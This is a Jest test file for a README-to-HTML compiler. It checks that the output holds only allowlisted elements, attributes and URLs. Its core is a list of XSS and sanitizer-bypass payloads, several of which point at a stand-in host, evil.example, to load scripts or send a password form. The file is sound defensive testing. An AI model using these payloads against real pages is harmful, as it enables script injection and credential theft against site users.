import { expect, it } from "@jest/globals";
import { Parser } from "htmlparser2";
import { parseFragment, serialize } from "parse5";
import { compile } from "./compile";

// What the final body may contain: our own markup, and what the README wrote in Markdown.
const ELEMENTS = new Set(
  "a abbr b blockquote br caption code del details dfn div em fieldset figcaption figure h2 h3 h4 h5 h6 hr i img input ins kbd label legend li mark ol p pre q s section small span strong sub summary sup table tbody td tfoot th thead tr u ul var wbr".split(
    " ",
  ),
);
const ATTRIBUTES =
  /^(?:align|alt|aria-label|checked|class|colspan|data-(?:diff|footnotes|footnote-backref|footnote-ref|language|sync|tab)|decoding|disabled|for|height|href|id|loading|name|open|rel|role|rowspan|scope|src|start|tabindex|title|type|value|width)$/;
const ADDRESS = /^(?:https?:\/\/|mailto:|#|\/(?!\/))/;

function intruders(html: string): string[] {
  const found: string[] = [];
  new Parser({
    onopentag(name, attributes) {
      if (!ELEMENTS.has(name)) found.push(`<${name}>`);
      for (const [attribute, value] of Object.entries(attributes)) {
        if (!ATTRIBUTES.test(attribute)) found.push(`${name} ${attribute}`);
        if (/^(?:href|src)$/.test(attribute) && !ADDRESS.test(value)) found.push(value);
      }
    },
    oncomment: (text) => found.push(`<!--${text}-->`),
  }).end(html);
  return found;
}

const hostile = [
  "<script>alert(1)</script>",
  "<SCRIPT\n>alert(1)</SCRIPT\n>",
  "text <script src=//evil.example/x.js></script> text",
  "<svg><script>alert(1)</script></svg>",
  "<svg><style><img src=x onerror=alert(1)></style></svg>",
  "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=alert(1)&gt;'>",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
  "<template><img src=x onerror=alert(1)></template>",
  "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
  "<textarea></textarea><img src=x onerror=alert(1)>",
  "<title><img src=x onerror=alert(1)></title>",
  "<plaintext>\n\ntext",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<object data=x></object><embed src=x><applet code=x></applet>",
  "<base href=//evil.example><link rel=stylesheet href=x><meta http-equiv=refresh content='0;url=//evil.example'>",
  "<style>body { display: none }</style>",
  "<p style='position:fixed;inset:0' class='site-header' tabindex=1 role=banner aria-label=x data-sync=x>text</p>",
  "<form action=//evil.example><input name=password type=password><button formaction=x>Sign in</button></form>",
  "<input type=image src=x onerror=alert(1)><input type=checkbox disabled autofocus onfocus=alert(1)>",
  "<img src=x onerror=alert(1) srcset='https://evil.example/x 1x' alt=a>",
  "<video src=x onerror=alert(1)><source src=x></video><audio src=x autoplay></audio>",
  "<table background=//evil.example/x><tr><td background=//evil.example/x>text</td></tr></table>",
  "<a href=https://example.com ping=//evil.example target=_blank download onclick=alert(1)>text</a>",
  "<details ontoggle=alert(1) open><summary>text</summary></details>",
  "<marquee onstart=alert(1)>text</marquee><blink>text</blink><dialog open>text</dialog>",
  "<custom-element is=x>text</custom-element>",
  "<a href='jav&#x09;ascript:alert(1)'>text</a>",
  "![text](javascript:alert(1)) [text](data:text/html;base64,PHNjcmlwdD4=)",
  "[text](https://example.com 'x\" onmouseover=\"alert(1)')",
  "```<img src=x onerror=alert(1)>\ntext\n```",
  "## <img src=x onerror=alert(1)> <script>alert(1)</script>\n\n`<script>alert(1)</script>`",
  "<!-- <script>alert(1)</script> --> <![CDATA[<script>alert(1)</script>]]> <?php x ?>",
  "import x from 'y'\n\nexport const a = {alert(1)}\n\n{process.exit(1)}\n\n<Tabs><Tab label='a'>text</Tab></Tabs>",
  "</div></main></body></html><script>alert(1)</script>",
  "<a href=x><a href=y><table><a href=z></table>text",
  "<b><p><i><table><b><td><p>text",
];

it.each(hostile)("nothing harmful from %s gets into the page", async (attack) => {
  const { html, problems } = await compile(`Before.\n\n${attack}\n\nAfter.`);
  expect(intruders(html)).toEqual([]);
  expect(problems).toEqual([]);
  expect(html).toContain("Before.");
});

it.each(hostile)("a browser parses the page with %s exactly as written", async (attack) => {
  const { html } = await compile(`Before.\n\n${attack}\n\nAfter.`);
  const read = serialize(parseFragment(html));
  expect(serialize(parseFragment(read))).toBe(read);
  expect(intruders(read)).toEqual([]);
});

it("markup that only formats text stays", async () => {
  const { html } = await compile(
    "<kbd>Ctrl</kbd> H<sub>2</sub>O <abbr title='a'>b</abbr> <mark>c</mark> ~~d~~\n\n<dl><dt>e</dt><dd>f</dd></dl>",
  );
  expect(html).toContain(
    '<kbd>Ctrl</kbd> H<sub>2</sub>O <abbr title="a">b</abbr> <mark>c</mark> <del>d</del>',
  );
  expect(html).toContain("<dl><dt>e</dt><dd>f</dd></dl>");
});

it("task lists show their state", async () => {
  expect((await compile("- [x] a\n- [ ] b")).html).toContain(
    '<li class="task-list-item"><input type="checkbox" checked disabled aria-label="Done"> a</li>',
  );
});
